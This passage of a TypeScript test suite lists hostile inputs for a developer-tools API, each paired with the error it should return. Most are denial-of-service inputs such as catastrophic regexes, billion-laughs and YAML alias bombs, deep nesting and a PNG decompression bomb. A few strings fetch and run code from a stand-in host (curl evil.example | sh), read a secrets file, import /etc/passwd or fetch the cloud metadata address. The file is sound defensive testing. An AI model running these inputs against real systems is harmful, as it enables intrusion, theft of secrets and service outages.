  hostile('chmod of 250 clauses, the last with a bad letter', 'chmod', { input: `${'u+x,'.repeat(249)}u+q`, base: '644' }, 422, 'INVALID_INPUT'),
  hostile('chmod of 999 characters of clauses', 'chmod', { input: `${'a+X,'.repeat(249)}u+x`, base: '644' }, 200),
  hostile('chmod of an octal mode of 1,000 digits', 'chmod', { input: '7'.repeat(1000) }, 422, 'INVALID_INPUT'),
  { ...hostile('chmod of a relative change without base', 'chmod', { input: 'u+x' }, 422, 'INVALID_INPUT'), message: /base is required/ },
  { ...hostile('chmod umask with a special bit', 'chmod', { input: '4022', action: 'umask' }, 422, 'INVALID_INPUT'), message: /special bits/ },
  { ...hostile('chmod umask given a base', 'chmod', { input: '022', action: 'umask', base: '644' }, 400, 'VALIDATION_ERROR'), field: 'base' },
  // A catastrophic ECMAScript pattern is tested in src/operations/regex.test.ts, on a worker: these run in process too, where nothing could stop it.
  hostile(
    'regex re2 with a nested quantifier over 1,000,000 characters, linear',
    'regex',
    { pattern: '(a+)+$', input: `${'a'.repeat(1_000_000)}!`, flavor: 're2', action: 'test' },
    200,
  ),
  hostile('regex empty pattern over 1,000,000 characters, stopped at maxMatches', 'regex', { pattern: '(?:)', input: 'a'.repeat(1_000_000) }, 200),
  hostile(
    'regex replacement of $` at every position of 1,000,000 characters, refused before it is built',
    'regex',
    { pattern: '(?:)', input: 'a'.repeat(1_000_000), action: 'replace', replacement: '$`' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('regex split into 1,000,001 pieces', 'regex', { pattern: '(?:)', input: 'a'.repeat(1_000_000), action: 'split' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'regex split capturing the rest of the text at every position',
    'regex',
    { pattern: '(?=([^]*))', input: 'a'.repeat(100_000), action: 'split' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('regex of groups nested 4,999 deep', 'regex', { pattern: `${'('.repeat(4999)}a${')'.repeat(4999)}`, input: 'a' }, 200),
  hostile(
    'regex re2 of groups nested 4,999 deep',
    'regex',
    { pattern: `${'('.repeat(4999)}a${')'.repeat(4999)}`, input: 'a', flavor: 're2' },
    422,
    'INVALID_INPUT',
  ),
  hostile('regex of 10,000 unclosed groups', 'regex', { pattern: '('.repeat(10_000), input: 'a' }, 422, 'INVALID_INPUT'),
  hostile('regex re2 with a lookahead', 'regex', { pattern: '(?=a)', input: 'a', flavor: 're2' }, 422, 'INVALID_INPUT'),
  { ...hostile('regex re2 with the sticky flag', 'regex', { pattern: 'a', input: 'a', flavor: 're2', flags: 'y' }, 400, 'VALIDATION_ERROR'), field: 'flags' },
  { ...hostile('regex replacement for match', 'regex', { pattern: 'a', input: 'a', replacement: 'b' }, 400, 'VALIDATION_ERROR'), field: 'replacement' },
  hostile('format of JavaScript nested 200,000 brackets deep', 'format', { input: '['.repeat(200_000), language: 'javascript' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'format of JavaScript of 2,000 nested if statements without braces',
    'format',
    { input: `${'if(a)'.repeat(2000)}b;`, language: 'javascript', indent: 8 },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('format of XML nested 100,000 elements deep', 'format', { input: '<a>'.repeat(100_000), language: 'xml' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'format minifying HTML nested 100,000 divs deep',
    'format',
    { input: '<div>'.repeat(100_000), language: 'html', action: 'minify' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('format of Markdown nested 100,000 block quotes deep', 'format', { input: '>'.repeat(100_000), language: 'markdown' }, 422, 'LIMIT_EXCEEDED'),
  hostile('format of YAML nested 100,000 flow sequences deep', 'format', { input: '['.repeat(100_000), language: 'yaml' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'format of GraphQL nested 100,000 selections deep',
    'format',
    { input: '{a'.repeat(100_000), language: 'graphql', action: 'minify' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('format of SQL nested 100,000 parentheses deep', 'format', { input: `SELECT ${'('.repeat(100_000)}`, language: 'sql' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'format of SQL of 5,000 nested CASE expressions',
    'format',
    { input: `SELECT ${'CASE WHEN a THEN '.repeat(5000)}1${' END'.repeat(5000)}`, language: 'sql' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'format of JavaScript whose every item would be indented 100 levels deep, past the output limit',
    'format',
    { input: `x = ${'['.repeat(99)}${Array.from({ length: 30_000 }, () => '{a:1}').join(',')}${']'.repeat(99)}`, language: 'javascript', indent: 8 },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'format of 50,000 lines of one unclosed string in SQL',
    'format',
    { input: `SELECT '${'x\n'.repeat(50_000)}`, language: 'sql' },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'format of XML with a billion laughs DOCTYPE: kept as written, never expanded',
    'format',
    {
      input: `<!DOCTYPE l [${Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}<!ENTITY l0 "ha">]><a>&l10;</a>`,
      language: 'xml',
    },
    200,
  ),
  hostile(
    'format of YAML aliases nine levels deep: printed as aliases, never expanded',
    'format',
    {
      input: `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 8 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${`*${String.fromCharCode(97 + i)}, `.repeat(8)}*${String.fromCharCode(97 + i)}]`).join('\n')}\n`,
      language: 'yaml',
    },
    200,
  ),
  hostile(
    'format minifying 1,000 nested ternaries in 7 KB',
    'format',
    { input: `x=${Array.from({ length: 1000 }, (_, i) => `a${i}?b:`).join('')}c`, language: 'javascript', action: 'minify' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'format of JSX nested 3,000 elements deep',
    'format',
    { input: `x = ${'<a>'.repeat(3000)}${'</a>'.repeat(3000)}`, language: 'javascript' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'format of TypeScript type arguments nested 3,000 deep',
    'format',
    { input: `let x: ${'A<'.repeat(3000)}B${'>'.repeat(3000)}`, language: 'typescript' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('format of YAML of 3,000 nested complex keys', 'format', { input: `${'? '.repeat(3000)}a`, language: 'yaml' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'format of PostgreSQL hiding 5,000 parentheses behind a backslash it does not take as an escape',
    'format',
    { input: `SELECT 'a\\' , ${'('.repeat(5000)}1${')'.repeat(5000)}`, language: 'sql', dialect: 'postgresql' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'format of SQL of 20,000 qualified names in a chain, which overflows the formatter',
    'format',
    { input: `SELECT ${'a.'.repeat(20_000)}b`, language: 'sql', dialect: 'postgresql' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'format of GraphQL arguments without commas, each of which would be a line indented 90 levels deep',
    'format',
    {
      input: `{${'a{'.repeat(90)}f(${Array.from({ length: 30_000 }, (_, i) => `b${i}:1`).join(' ')})${'}'.repeat(91)}`,
      language: 'graphql',
      indent: 8,
      printWidth: 20,
    },
    422,
    'LIMIT_EXCEEDED',
  ),
  {
    ...hostile('format with an option of another language', 'format', { input: 'a {}', language: 'css', quotes: 'single' }, 400, 'VALIDATION_ERROR'),
    field: 'quotes',
  },
  {
    ...hostile(
      'format with an option of another action at its default value',
      'format',
      { input: 'a', language: 'javascript', mangle: true },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'mangle',
  },
  {
    ...hostile('format minifying a language it cannot minify', 'format', { input: 'a: 1', language: 'yaml', action: 'minify' }, 400, 'VALIDATION_ERROR'),
    field: 'action',
  },
  hostile('jq on JSON text nested 100,000 deep', 'jq', { filter: '.', input: '['.repeat(100_000) }, 422, 'LIMIT_EXCEEDED'),
  hostile('jq on a JSON value nested 100,000 deep', 'jq', { filter: '.', input: deepArray(100_000) }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'jq building a value 9,999 deep, which breaks its instance',
    'jq',
    { filter: 'reduce range(9999) as $_ ([]; [.]) | tojson', nullInput: true },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('jq giving a billion outputs', 'jq', { filter: 'range(1e9)', nullInput: true }, 422, 'LIMIT_EXCEEDED'),
  hostile('jq writing a string of 1 MiB a hundred times', 'jq', { filter: '("x" * 1048576) as $s | range(100) | $s', nullInput: true }, 422, 'LIMIT_EXCEEDED'),
  hostile('jq asking for 300 MB at once', 'jq', { filter: '"x" * 300000000 | length', nullInput: true }, 422, 'LIMIT_EXCEEDED'),
  hostile('jq importing a file of the host', 'jq', { filter: 'import "/etc/passwd" as $p; $p', nullInput: true }, 422, 'INVALID_INPUT'),
  hostile(
    'jq with a catastrophic regular expression, stopped by its retry limit',
    'jq',
    { filter: 'test("^(a+)+$")', input: JSON.stringify(`${'a'.repeat(20_000)}!`) },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'jq with a string variable of 900,000 characters, past what its argument stack holds',
    'jq',
    { filter: '$a | length', args: { a: 'x'.repeat(900_000) } },
    200,
  ),
  hostile(
    'jq with 100 JSON variables of 1 KiB each',
    'jq',
    { filter: '$ARGS.named | length', jsonArgs: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`v${i}`, JSON.stringify('x'.repeat(1024))])) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('jq over 90,000 small values, one output each', 'jq', { filter: '.[]', input: `[${'1,'.repeat(90_000)}1]` }, 200),
  hostile('lookup of a port name of 1,000 letters', 'lookup', { table: 'port', input: 'a'.repeat(1000), limit: 500 }, 200),
  hostile('lookup of one letter over every port, 500 rows', 'lookup', { table: 'port', input: 'e', limit: 500 }, 200),
  hostile('lookup of a path of 498 segments', 'lookup', { table: 'mediaType', input: `${'a/'.repeat(497)}a.json` }, 200),
  {
    ...hostile('lookup of a status code of 1,000 digits', 'lookup', { table: 'httpStatus', input: '9'.repeat(1000) }, 400, 'VALIDATION_ERROR'),
    field: 'input',
  },
  { ...hostile('lookup of port 65536', 'lookup', { table: 'port', input: 65536 }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('lookup of a port with an unknown protocol', 'lookup', { table: 'port', input: '22/icmp' }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('lookup of status class 9xx', 'lookup', { table: 'httpStatus', input: '9xx' }, 400, 'VALIDATION_ERROR'), field: 'input' },
  hostile('lookup of an unassigned status code', 'lookup', { table: 'httpStatus', input: 599 }, 200),
  hostile('docker-compose runToCompose of 10,000 -e flags', 'docker-compose', { input: `docker run ${'-e A '.repeat(10_000)}x` }, 200),
  hostile(
    'docker-compose runToCompose of 10,000 distinct labels',
    'docker-compose',
    { input: `docker run ${Array.from({ length: 10_000 }, (_, index) => `-l${index.toString(36)} `).join('')}x` },
    200,
  ),
  {
    ...hostile(
      'docker-compose runToCompose of a command followed by another',
      'docker-compose',
      { input: 'docker run x; curl evil.example | sh' },
      422,
      'INVALID_INPUT',
    ),
    message: /shell operator ;/,
  },
  {
    ...hostile(
      'docker-compose runToCompose with a command substitution',
      'docker-compose',
      { input: 'docker run -e TOKEN=$(cat /run/secrets/t) x' },
      422,
      'INVALID_INPUT',
    ),
    message: /command substitution/,
  },
  {
    ...hostile('docker-compose runToCompose with an unknown flag', 'docker-compose', { input: 'docker run --frobnicate x' }, 422, 'INVALID_INPUT'),
    message: /--frobnicate/,
  },
  hostile('docker-compose runToCompose of 30,000 unclosed ${', 'docker-compose', { input: `docker run -e A=${'${'.repeat(30_000)} x` }, 422, 'INVALID_INPUT'),
  hostile('docker-compose composeToRun of a YAML alias bomb', 'docker-compose', { input: BILLION_LAUGHS, action: 'composeToRun' }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'docker-compose composeToRun of 5,000 nested flow sequences',
    'docker-compose',
    { input: `services: ${'['.repeat(5000)}${']'.repeat(5000)}`, action: 'composeToRun' },
    422,
    'LIMIT_EXCEEDED',
  ),
  {
    ...hostile('docker-compose runToCompose with a field of composeToRun', 'docker-compose', { input: 'docker run x', service: 'x' }, 400, 'VALIDATION_ERROR'),
    field: 'service',
  },
  hostile('idn toAscii of 1,024 ZERO WIDTH NON-JOINERs', 'idn', { input: '\u200C'.repeat(1024) }, 422, 'INVALID_INPUT'),
  hostile('idn toUnicode of 1,024 empty labels', 'idn', { input: '.'.repeat(1024), action: 'toUnicode' }, 200),
  hostile('idn toUnicode of 1,024 characters that each map to 18', 'idn', { input: '\uFDFA'.repeat(1024), action: 'toUnicode' }, 200),
  hostile('idn toUnicode of 1,024 combining marks', 'idn', { input: '\u0308'.repeat(1024), action: 'toUnicode' }, 200),
  hostile('idn toUnicode of 256 right-to-left labels breaking the Bidi rule', 'idn', { input: '\u05D01.a'.repeat(256), action: 'toUnicode' }, 200),
  {
    ...hostile('idn toAscii of a label Punycode cannot encode', 'idn', { input: `${'\uFDFA'.repeat(900)}\u{3134A}`, checkBidi: false }, 422, 'INVALID_INPUT'),
    message: /Punycode/,
  },
  { ...hostile('idn decode of 1,024 digits, overflowing', 'idn', { input: '9'.repeat(1024), action: 'decode' }, 422, 'INVALID_INPUT'), message: /overflows/ },
  { ...hostile('idn of 1,025 characters', 'idn', { input: 'a'.repeat(1025) }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('idn encode of a lone surrogate', 'idn', { input: 'a\uD800', action: 'encode' }, 422, 'INVALID_INPUT') },
  hostile('extract over half a mebibyte of almost-domains (a.a.a…)', 'extract', { input: 'a.'.repeat(262_144) }, 200),
  hostile('extract over a long run that is almost an e-mail local part, then @ and nothing', 'extract', { input: `${'a.'.repeat(262_144)}@!` }, 200),
  hostile('extract of a URL whose authority is 100,000 characters', 'extract', { input: `http://${'a'.repeat(100_000)}.com/`, types: ['url'] }, 200),
  hostile('extract of 60,000 defanged dots', 'extract', { input: '[.]'.repeat(60_000), maxResults: 100_000 }, 200),
  hostile('extract of 100,000 IPv4 addresses, unique', 'extract', { input: '1.1.1.1 '.repeat(100_000), unique: true }, 200),
  hostile('defang of 50,000 e-mail addresses', 'extract', { input: 'a@b.co '.repeat(50_000), action: 'defang' }, 200),
  { ...hostile('extract with a type it does not know', 'extract', { input: 'x', types: ['phone'] }, 400, 'VALIDATION_ERROR'), field: 'types[0]' },
  { ...hostile('extract with maxResults past 100,000', 'extract', { input: 'x', maxResults: 100_001 }, 400, 'VALIDATION_ERROR'), field: 'maxResults' },
  {
    ...hostile('defang of hashes, which have no defanged form', 'extract', { input: 'x', action: 'defang', types: ['hash'] }, 400, 'VALIDATION_ERROR'),
    field: 'types',
  },
  ...['a.', '@', '{', '%', '0', '[', '- ', 'a:\n  '].map((unit) =>
    hostile(`detect of 64 KiB of ${JSON.stringify(unit)}`, 'detect', { input: unit.repeat(65_536 / unit.length), limit: 50, minConfidence: 0 }, 200),
  ),
  { ...hostile('detect of 65,537 characters', 'detect', { input: 'a'.repeat(65_537) }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('detect with a type it does not know', 'detect', { input: 'x', types: ['sha256'] }, 400, 'VALIDATION_ERROR'), field: 'types[0]' },
  hostile('detect of a YAML alias bomb', 'detect', { input: BILLION_LAUGHS }, 200),
  hostile('detect of 5,000 nested JSON arrays', 'detect', { input: '['.repeat(5000) + ']'.repeat(5000) }, 200),
  hostile(
    'detect of an XML document with a DOCTYPE (never expanded)',
    'detect',
    { input: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' },
    200,
  ),
  hostile('uuid inspect of 256 characters of almost a UUID', 'uuid', { action: 'inspect', input: `{${'0'.repeat(255)}` }, 422, 'INVALID_INPUT'),
  ...['%', '\\', '@', '['].flatMap((char) => [
    {
      ...hostile(`url-parse of 256 KiB of ${char} in the authority`, 'url-parse', { input: `https://${char.repeat(256 * 1024 - 8)}` }, 422, 'INVALID_INPUT'),
      message: /The (host|IPv6 address)/,
    },
    hostile(`url-parse of 256 KiB of ${char} in an opaque host's path`, 'url-parse', { input: `sc://a/${char.repeat(256 * 1024 - 7)}` }, 200),
  ]),
  {
    ...hostile(
      'url-parse of a URL with credentials and a bad port: the message tells neither',
      'url-parse',
      { input: 'https://admin:hunter2@example.com:99999/' },
      422,
      'INVALID_INPUT',
    ),
    message: /The port is over 65535$/,
  },
  hostile('url-parse of a query of 10,001 pairs', 'url-parse', { input: `https://a/?${'a&'.repeat(10_001)}` }, 422, 'LIMIT_EXCEEDED'),
  hostile('url-parse of a javascript: URL: parsed, never run', 'url-parse', { input: 'javascript:fetch("http://169.254.169.254/")' }, 200),
  hostile(
    'url-parse building a path, a query and a fragment of 100,000 CJK characters each, every one percent-encoded to 9 characters',
    'url-parse',
    {
      action: 'build',
      input: 'https://a/',
      components: { pathname: '\u4e00'.repeat(100_000), hash: '\u4e00'.repeat(100_000), search: '\u4e00'.repeat(100_000) },
    },
    200,
  ),
  {
    ...hostile(
      'url-parse build with both search and query',
      'url-parse',
      { action: 'build', input: 'https://a/', components: { search: 'a', query: [] } },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'components',
  },
  {
    ...hostile(
      'base-encoding base58 decode of a mebibyte of text',
      'base-encoding',
      { input: 'z'.repeat(1_000_000), action: 'decode', encoding: 'base58' },
      422,
      'LIMIT_EXCEEDED',
    ),
    message: /more than 4096 characters/,
  },
  hostile(
    'base-encoding base62 of 2,049 bytes, one past its bound',
    'base-encoding',
    { input: 'ff'.repeat(2049), inputEncoding: 'hex', encoding: 'base62' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'base-encoding base36 decode at its bound of 4,096 characters',
    'base-encoding',
    { input: 'z'.repeat(4096), action: 'decode', encoding: 'base36', outputEncoding: 'hex' },
    200,
  ),
  hostile(
    'base-encoding Ascii85 decode of 500,000 z, each four zero bytes',
    'base-encoding',
    { input: 'z'.repeat(500_000), action: 'decode', encoding: 'ascii85', outputEncoding: 'base64' },
    200,
  ),
  hostile(
    'base-encoding bech32 decode of 100,000 characters',
    'base-encoding',
    { input: `bc1${'q'.repeat(100_000)}`, action: 'decode', encoding: 'bech32' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('base-encoding base45 triple past two bytes', 'base-encoding', { input: 'GGW', action: 'decode', encoding: 'base45' }, 422, 'INVALID_INPUT'),
  hostile('base-encoding Z85 group past four bytes', 'base-encoding', { input: '#####', action: 'decode', encoding: 'z85' }, 422, 'INVALID_INPUT'),
  { ...hostile('base-encoding with an HRP for base58', 'base-encoding', { input: 'x', encoding: 'base58', hrp: 'bc' }, 400, 'VALIDATION_ERROR'), field: 'hrp' },
  { ...hostile('base-encoding bech32 encode without an HRP', 'base-encoding', { input: 'x', encoding: 'bech32' }, 400, 'VALIDATION_ERROR'), field: 'hrp' },
  hostile(
    'cipher decrypt of 700 KiB of CBC blocks under the wrong key',
    'cipher',
    { action: 'decrypt', algorithm: 'aes-256-cbc', key: '00'.repeat(32), iv: '00'.repeat(16), input: Buffer.alloc(700 * 1024).toString('base64') },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'cipher decrypt of 700 KiB of GCM with a wrong tag',
    'cipher',
    { action: 'decrypt', key: '00'.repeat(32), iv: '00'.repeat(12), tag: '00'.repeat(16), input: Buffer.alloc(700 * 1024).toString('base64') },
    422,
    'INVALID_INPUT',
  ),
  {
    ...hostile(
      'cipher decrypt with a GCM tag cut to 4 bytes',
      'cipher',
      { action: 'decrypt', key: '00'.repeat(32), iv: '00'.repeat(12), tag: '58e2fcce', input: '' },
      422,
      'INVALID_INPUT',
    ),
    message: /tag is 4 bytes/,
  },
  {
    ...hostile(
      'cipher with scrypt asking for 1 GiB',
      'cipher',
      { input: 'x', passphrase: 'p', kdf: 'scrypt', logN: 20, blockSize: 32 },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'logN',
  },
  {
    ...hostile('cipher with both a key and a passphrase', 'cipher', { input: 'x', key: '00'.repeat(32), passphrase: 'p' }, 400, 'VALIDATION_ERROR'),
    field: 'key',
  },
  { ...hostile('cipher with a key of 1,024 hex digits', 'cipher', { input: 'x', key: '0'.repeat(1024) }, 400, 'VALIDATION_ERROR'), field: 'key' },
  hostile(
    'cipher decrypt of openssl output without its header',
    'cipher',
    { action: 'decrypt', format: 'openssl', input: 'AAAA', passphrase: 'p' },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'cipher decrypt of a combined value of 3 bytes',
    'cipher',
    { action: 'decrypt', format: 'combined', input: 'AAAA', key: '00'.repeat(32) },
    422,
    'INVALID_INPUT',
  ),
  hostile('cipher encrypt of 700 KiB to hex', 'cipher', { input: 'a'.repeat(700 * 1024), key: '00'.repeat(32), outputEncoding: 'hex' }, 200),
  {
    ...hostile(
      'check-digit of a letter inside a card number: its position, not a 500',
      'check-digit',
      { input: '4111 1111 a111 1111', scheme: 'card' },
      422,
      'INVALID_INPUT',
    ),
    message: /position 10/,
  },
  {
    ...hostile('check-digit of 64 nines as a card number', 'check-digit', { input: '9'.repeat(64), scheme: 'card' }, 422, 'INVALID_INPUT'),
    message: /8 to 19 characters/,
  },
  hostile('check-digit of 64 digits under Verhoeff, Damm and MOD 97-10 (the longest input)', 'check-digit', { input: '9'.repeat(64), scheme: 'verhoeff' }, 200),
  hostile('check-digit of 64 hyphens (nothing left to check)', 'check-digit', { input: '-'.repeat(64), scheme: 'damm' }, 422, 'INVALID_INPUT'),
  hostile('check-digit of an emoji run', 'check-digit', { input: '\u{1F4B3}'.repeat(32), scheme: 'isbn' }, 422, 'INVALID_INPUT'),
  { ...hostile('check-digit of 65 characters', 'check-digit', { input: '1'.repeat(65) }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('iban of a country without IBANs: a 200 that says so', 'iban', { input: 'US64SVBKUS6S3300958879' }, 200) },
  { ...hostile('iban of 64 characters of punctuation', 'iban', { input: '.'.repeat(64) }, 422, 'INVALID_INPUT'), message: /position 0/ },
  hostile('iban of 60 digits after GB82 (far past any length)', 'iban', { input: 'GB82'.padEnd(64, '9') }, 200),
  {
    ...hostile('iban compose for a country without IBANs', 'iban', { action: 'compose', country: 'US', bban: '123' }, 422, 'INVALID_INPUT'),
    message: /country has no IBAN/,
  },
  { ...hostile('iban compose without a bban', 'iban', { action: 'compose', country: 'DE' }, 400, 'VALIDATION_ERROR'), field: 'bban' },
  { ...hostile('iban with a __proto__ country code', 'iban', { input: 'PR00__proto__' }, 422, 'INVALID_INPUT') },
  hostile('phone find in 64 KiB of digits and separators', 'phone', { action: 'find', input: '12 34-56.'.repeat(7281), country: 'US' }, 200),
  hostile('phone find in 64 KiB of plus signs', 'phone', { action: 'find', input: '+'.repeat(64 * 1024) }, 200),
  hostile('phone find in 64 KiB of plus signs and digits', 'phone', { action: 'find', input: '+1'.repeat(32 * 1024), country: 'US' }, 200),
  hostile('phone find of 4,000 numbers, past the 1,000 answered', 'phone', { action: 'find', input: '+41446681800 '.repeat(4000) }, 200),
  { ...hostile('phone parse of 64 KiB of digits', 'phone', { input: '9'.repeat(64 * 1024) }, 422, 'INVALID_INPUT'), message: /more than the 250/ },
  { ...hostile('phone parse of a national number without a country', 'phone', { input: '(213) 373-4253' }, 422, 'INVALID_INPUT'), message: /give `country`/ },
  {
    ...hostile('phone parse with a region libphonenumber does not know', 'phone', { input: '+41446681800', country: 'ZZ' }, 400, 'VALIDATION_ERROR'),
    field: 'country',
  },
  { ...hostile('phone text past 64 KiB', 'phone', { action: 'find', input: '1'.repeat(64 * 1024 + 1) }, 400, 'VALIDATION_ERROR'), field: 'input' },
  hostile('pipeline of 21 steps', 'pipeline', { input: 'x', steps: Array.from({ length: 21 }, () => ({ operation: 'rot13' })) }, 400, 'VALIDATION_ERROR'),
  hostile('batch of 101 requests', 'batch', { requests: Array.from({ length: 101 }, () => ({ operation: 'uuid' })) }, 400, 'VALIDATION_ERROR'),
  hostile(
    'key: an OpenSSH private key whose first string claims 4 GiB',
    'key',
    { action: 'inspect', input: opensshPem(sshUint32(0xfffffff0)) },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'key: an OpenSSH private key asking for 4,294,967,295 bcrypt KDF rounds',
    'key',
    {
      action: 'inspect',
      passphrase: 'x',
      input: opensshPem(
        sshString('aes256-ctr'),
        sshString('bcrypt'),
        sshString(Buffer.concat([sshString(Buffer.alloc(16)), sshUint32(0xffffffff)])),
        sshUint32(1),
        sshString(ED25519_BLOB),
        sshString(Buffer.alloc(64)),
      ),
    },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'key: an OpenSSH private key claiming 4,294,967,295 keys',
    'key',
    { action: 'inspect', input: opensshPem(sshString('none'), sshString('none'), sshString(''), sshUint32(0xffffffff), sshString(ED25519_BLOB)) },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'key: an SSH public key line whose key claims 2 GiB',
    'key',
    { action: 'inspect', input: `ssh-ed25519 ${Buffer.concat([sshString('ssh-ed25519'), sshUint32(0x7fffffff)]).toString('base64')}` },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'key: a PKCS#8 key asking for 5,000,000 PBKDF2 iterations',
    'key',
    { action: 'inspect', input: PBKDF2_5M_KEY, passphrase: 'x' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'key: that PKCS#8 key with a BER length of 5 octets (leading zeros), which OpenSSL reads',
    'key',
    { action: 'inspect', input: PBKDF2_5M_BER_KEY, passphrase: 'x' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'key: an RSA JWK of 16,392 bits',
    'key',
    { action: 'inspect', input: JSON.stringify({ kty: 'RSA', n: Buffer.alloc(2049, 0xff).toString('base64url'), e: 'AQAB' }) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'key: a JWK nested 10,000 arrays deep',
    'key',
    { action: 'inspect', input: `{"kty":"OKP","a":${'['.repeat(10_000)}${']'.repeat(10_000)}}` },
    422,
    'INVALID_INPUT',
  ),
  hostile(
    'key: three PEM blocks',
    'key',
    { action: 'inspect', input: '-----BEGIN PUBLIC KEY-----\nMAA=\n-----END PUBLIC KEY-----\n'.repeat(3) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('key: DER whose outer SEQUENCE claims 4 GiB', 'key', { action: 'inspect', input: 'MIT/////AAAA' }, 422, 'INVALID_INPUT'),
  hostile('x509 of 50,000 nested SEQUENCEs as base64', 'x509', { input: nestedSequences(50_000).toString('base64') }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'x509 of a certificate with 10,000 subjectAltNames',
    'x509',
    { input: certificatePem(certificateWithNames(Array.from({ length: 10_000 }, (_, i) => `h${i}.example`))) },
    200,
  ),
  hostile('x509 of a certificate whose length octets claim more than there is', 'x509', { input: certificatePem(LYING_LENGTH) }, 422, 'INVALID_INPUT'),
  hostile(
    'x509 of a certificate followed by garbage bytes: parsed, with a warning',
    'x509',
    { input: certificatePem(Buffer.concat([certificateWithNames(['a.example']), Buffer.from('garbage')])) },
    200,
  ),
  hostile(
    'x509 of a NUL in a DNS name: shown escaped, with a warning',
    'x509',
    { input: certificatePem(certificateWithNames(['bank.example\0.evil.example'])) },
    200,
  ),
  hostile('x509 of 1,001 PEM blocks', 'x509', { input: '-----BEGIN CERTIFICATE-----\nMAA=\n-----END CERTIFICATE-----\n'.repeat(1001) }, 422, 'LIMIT_EXCEEDED'),
  {
    ...hostile(
      'x509 generate with both keyType and privateKey',
      'x509',
      { action: 'generate', subject: 'CN=x', keyType: 'p-256', privateKey: 'x' },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'keyType',
  },
  {
    ...hostile('barcode decode of a 6000×6000 PNG header (a decompression bomb)', 'barcode', { action: 'decode', input: PNG_BOMB }, 422, 'LIMIT_EXCEEDED'),
    message: /6000×6000 PNG/,
  },
  { ...hostile('qr-code decode of a 6000×6000 PNG header', 'qr-code', { action: 'decode', input: PNG_BOMB }, 422, 'LIMIT_EXCEEDED'), message: /6000×6000/ },
  {
    ...hostile(
      'barcode decode of a WebP header',
      'barcode',
      { action: 'decode', input: Buffer.from('RIFF\0\0\0\0WEBPVP8 ', 'latin1').toString('base64') },
      422,
      'INVALID_INPUT',
    ),
    message: /WebP/,
  },
  hostile('barcode decode of most of a mebibyte of base64 zeros', 'barcode', { action: 'decode', input: 'A'.repeat(1_000_000) }, 422, 'INVALID_INPUT'),
  hostile('qr-code decode of a PNG signature and nothing else', 'qr-code', { action: 'decode', input: 'iVBORw0KGgo=' }, 422, 'INVALID_INPUT'),
  {
    ...hostile('barcode ean13 with a wrong check digit', 'barcode', { input: '4006381333932', format: 'ean13' }, 422, 'INVALID_INPUT'),
    message: /expecting 1$/,
  },
  hostile('barcode code128 of 81 characters, one past its bound', 'barcode', { input: 'a'.repeat(81) }, 422, 'LIMIT_EXCEEDED'),
  hostile('barcode pdf417 of 7,089 digits, past its capacity', 'barcode', { input: '9'.repeat(7089), format: 'pdf417' }, 422, 'LIMIT_EXCEEDED'),
  hostile('barcode code128 of 80 characters as a 3740-pixel-wide PNG', 'barcode', { input: 'a'.repeat(80), output: 'png', scale: 4, height: 300 }, 200),
  hostile(
    'barcode code128 of 80 characters at scale 10, past 4,096 pixels',
    'barcode',
    { input: 'a'.repeat(80), output: 'png', scale: 10 },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'barcode the largest aztec symbol as a PNG at scale 10',
    'barcode',
    { input: '1'.repeat(3000), format: 'aztec', output: 'png', scale: 10, margin: 20 },
    200,
  ),
]

/** Every answer, whatever was sent, is an envelope; an error one has a known code with its status. */
export function assertEnvelope(response: SocketResponse, context: string): Envelope {
  assert.ok(response.statusCode < 500 || response.statusCode === 503, `${context}: ${response.statusCode} ${response.body.slice(0, 300)}`)
